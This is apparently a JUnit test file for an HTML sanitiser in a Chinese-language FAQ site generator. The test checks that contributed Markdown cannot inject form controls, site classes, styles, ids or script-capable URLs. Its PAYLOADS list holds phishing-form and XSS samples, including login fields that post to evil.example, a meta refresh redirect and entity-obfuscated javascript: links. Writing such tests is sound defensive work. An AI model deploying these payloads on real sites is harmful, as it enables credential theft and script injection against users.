package dev.faqsite.parse;

import static org.assertj.core.api.Assertions.assertThat;

import dev.faqsite.pipeline.TestSite;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.Set;
import java.util.stream.Collectors;
import org.jsoup.nodes.Attribute;
import org.jsoup.nodes.Document;
import org.jsoup.nodes.Element;
import org.jsoup.select.Elements;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * Raw HTML in a contribution cannot pass for part of the site: no form controls (fake login fields), none of the
 * site's classes (fake notices), no styles (overlays), no ids that take the place of the site's, no URL that can
 * run script. Markdown itself keeps working. One site holds every payload, in a document's introduction and in
 * an answer; the assertions read the built pages.
 */
class SanitiserTest {
    private static final List<String> PAYLOADS = List.of(
            // form controls: fake login fields and buttons
            "<input type=\"password\" name=\"password\" placeholder=\"密码\">",
            "<input type=\"submit\" value=\"登录\" formaction=\"https://evil.example/login\">",
            "<input type=\"image\" src=\"/assets/style.css\" alt=\"登录\">",
            "<input type=\"checkbox\" checked disabled> 已验证",
            "<button type=\"submit\" formaction=\"https://evil.example/\">登录</button>",
            "<select name=\"account\"><option>管理员</option></select>",
            "<textarea name=\"token\">粘贴令牌</textarea>",
            "<form action=\"https://evil.example/login\" method=\"post\"><label for=\"pw\">密码</label>"
                    + "<input id=\"pw\" type=\"password\"><output name=\"o\">1</output></form>",
            "<fieldset><legend>登录</legend><input type=\"text\" name=\"user\"></fieldset>",
            "<dialog open>会话已过期，请重新登录</dialog>",
            // elements that change the page, load things or hide markup
            "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example/\">",
            "<base href=\"https://evil.example/\">",
            "<link rel=\"stylesheet\" href=\"https://evil.example/x.css\">",
            "<style>main { display: none }</style>",
            "<iframe src=\"https://evil.example/\"></iframe>",
            "<object data=\"https://evil.example/x.swf\"></object><embed src=\"https://evil.example/x.swf\">",
            "<svg><foreignObject><input type=\"password\"></foreignObject></svg>",
            "<math><mtext><input type=\"password\"></mtext></math>",
            "<template><input type=\"password\"></template>",
            "<noscript><input type=\"password\"></noscript>",
            // the site's own classes, styles and ids
            "<div class=\"notice notice--missing\" role=\"alert\">假通知：本页已被删除</div>",
            "<p class=\"translation-notice visually-hidden\" style=\"position:fixed;inset:0;z-index:9999\">盖住整页</p>",
            "<span class=\"language-chooser\">x</span> <code class=\"language-js notice\">y</code>",
            "<div id=\"main\" name=\"lunr\" data-search-page>假主体</div>",
            "<img src=\"/assets/style.css\" id=\"site-search-input\" name=\"q\" alt=\"图\" "
                    + "srcset=\"https://evil.example/x.png 2x\" style=\"position:fixed\">",
            "<a href=\"/zh/\" target=\"_blank\" ping=\"https://evil.example/\" class=\"pager__next\" name=\"lunr\">首页</a>",
            "<h2 id=\"lunr\">lunr</h2>",
            "<h3>main</h3>",
            "<h2>site-search-results</h2>",
            // URLs that can run script or carry a page
            "<a href=\"&#106;avascript:alert(1)\">a</a> <a href=\"java&#x09;script:alert(1)\">b</a> "
                    + "<a href=\"&#x6A;&#x61;vascript&colon;alert(1)\">c</a> <a href=\" javascript:alert(1)\">d</a>",
            "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">e</a> "
                    + "<a href=\"vbscript:msgbox(1)\">f</a>",
            "<img src=\"data:image/svg+xml,&lt;svg onload=alert(1)&gt;\" alt=\"g\">",
            "<blockquote cite=\"javascript:alert(1)\">h</blockquote> <q cite=\"data:text/html,x\">i</q>",
            // a fenced code block's info string cannot add a second class
            "```x\tnotice\ncode\n```",
            "```x&#9;notice--missing\ncode\n```");

    private static final String LEGITIMATE = """
            ### 1. 正常的问题 {#legit}

            **答案：** 按 <kbd>Ctrl</kbd>+<kbd>C</kbd>，x<sup>2</sup>，见 [另一个问题](q:hostile) 和 [其中的解析](q:hostile#解析)。

            | 名称 | 数量 |
            |:--|--:|
            | 甲 | 1 |

            ```python
            print("你好")
            ```

            ![站内图片](/assets/style.css)

            ---

            <details><summary>更多</summary>折叠的内容。</details>
            """;

    @TempDir
    static Path temp;
    private static TestSite site;

    @BeforeAll
    static void build() {
        String payloads = String.join("\n\n", PAYLOADS);
        site = TestSite.zh(temp, Map.of("sanitise.md", """
                ---
                title: "净化"
                slug: sanitise
                ---

                ## 引言

                %s

                %s
                ### 2. 恶意的答案 {#hostile}

                **答案：** 看下面。

                %s

                **解析：** 都被清理了。
                """.formatted(payloads, LEGITIMATE, payloads))).buildOk();
    }

    private static List<Document> contributorPages() {
        return List.of(site.page("zh/q/hostile/index.html"), site.page("zh/q/legit/index.html"),
                site.page("zh/docs/sanitise/index.html"));
    }

    /** What contributors wrote: answers and document prose. */
    private static Elements contributed(Document page) {
        return page.select("section.part *, section.prose *, section.more-answer *");
    }

    @Test
    void noFormControlOrForeignElementReachesAPage() {
        for (Document page : contributorPages()) {
            assertThat(page.select("main").select("form, input, button, select, option, textarea, label, output, "
                    + "fieldset, dialog, iframe, object, embed, svg, math, template, noscript, style, script"))
                    .as(page.location()).isEmpty();
            assertThat(page.select("base, meta[http-equiv], link[href*=evil]")).as(page.location()).isEmpty();
        }
        assertThat(site.page("zh/q/hostile/index.html").select("main").text()).contains("假通知", "盖住整页");
    }

    @Test
    void contributorsGetNoClassesExceptTheLanguageOfAFencedCodeBlock() {
        for (Document page : contributorPages()) {
            for (Element element : contributed(page).select("[class]")) {
                boolean headingAnchor = element.className().equals("heading-anchor");
                boolean codeLanguage = element.is("pre > code") && element.classNames().size() == 1
                        && element.className().startsWith("language-");
                // The frame of a code block and its highlighting are added by the build after cleaning.
                boolean codeFrame = element.is("div.code-block, div.code-block > span.code-block__language")
                        && element.classNames().size() == 1;
                boolean highlighted = element.is("pre > code > span") && element.classNames().size() == 1
                        && element.className().matches("tok-[a-z]+");
                assertThat(headingAnchor || codeLanguage || codeFrame || highlighted)
                        .as("%s on %s", element, page.location()).isTrue();
            }
            assertThat(page.select("main .notice, main .notice--missing, main .visually-hidden, "
                    + "main .translation-notice, main .language-chooser")).as(page.location()).isEmpty();
        }
        assertThat(site.page("zh/q/hostile/index.html").select("pre > code").eachAttr("class"))
                .containsExactly("language-x", "language-x");
    }

    @Test
    void contributorsGetNoStylesTargetsOrScriptCapableUrls() {
        Set<String> forbidden = Set.of("style", "srcset", "formaction", "action", "ping", "target", "name",
                "background", "poster", "xlink:href");
        for (Document page : contributorPages()) {
            for (Element element : contributed(page)) {
                for (Attribute attribute : element.attributes()) {
                    String key = attribute.getKey().toLowerCase(Locale.ROOT);
                    assertThat(forbidden.contains(key) || key.startsWith("on") || key.startsWith("data-"))
                            .as("%s on %s", element, page.location()).isFalse();
                    String url = attribute.getValue().replaceAll("[\\x00-\\x20]", "").toLowerCase(Locale.ROOT);
                    assertThat(url).as("%s on %s", element, page.location())
                            .doesNotStartWith("javascript:").doesNotStartWith("vbscript:").doesNotStartWith("data:");
                }
            }
            assertThat(page.select("main [style]")).as(page.location()).isEmpty();
        }
    }

    @Test
    void contributorHeadingsCannotTakeTheSiteIdsOrNameAScriptGlobal() {
        for (Document page : contributorPages()) {
            List<String> ids = page.select("[id]").eachAttr("id");
            assertThat(ids).as(page.location()).doesNotHaveDuplicates().doesNotContain("lunr", "q", "password");
            assertThat(page.select("#main")).as(page.location()).hasSize(1).allMatch(e -> e.is("main"));
            assertThat(page.select("#site-search-input")).as(page.location()).hasSize(1)
                    .allMatch(e -> e.is("input"));
            assertThat(contributed(page).select("[id]").eachAttr("id")).as(page.location())
                    .allMatch(id -> id.startsWith("h-"));
        }
        Document hostile = site.page("zh/q/hostile/index.html");
        assertThat(hostile.select("section.part h2, section.part h3").eachAttr("id"))
                .contains("h-lunr", "h-main", "h-site-search-results");
    }

    @Test
    void markdownStillRendersTablesCodeImagesLinksAndDisclosures() {
        Document page = site.page("zh/q/legit/index.html");
        Element answer = page.selectFirst("section.part");

        assertThat(answer.select("table th").eachText()).containsExactly("名称", "数量");
        assertThat(answer.select("table th").eachAttr("align")).containsExactly("left", "right");
        assertThat(answer.select("pre > code.language-python").text()).contains("print(\"你好\")");
        assertThat(answer.select("img[src]").eachAttr("src")).containsExactly("../../../assets/style.css");
        assertThat(answer.select("kbd").eachText()).containsExactly("Ctrl", "C");
        assertThat(answer.select("sup").text()).isEqualTo("2");
        assertThat(answer.select("hr")).hasSize(1);
        assertThat(answer.select("details > summary").text()).isEqualTo("更多");
        assertThat(answer.select("details").text()).contains("折叠的内容");
        List<String> links = new ArrayList<>(answer.select("a[href]").eachAttr("href"));
        assertThat(links).contains("../hostile/", "../hostile/#h-解析");
        Set<String> hostileIds = site.page("zh/q/hostile/index.html").select("[id]").stream()
                .map(Element::id).collect(Collectors.toSet());
        assertThat(hostileIds).as("the section a contributor links to by its heading").contains("h-解析");
    }
}
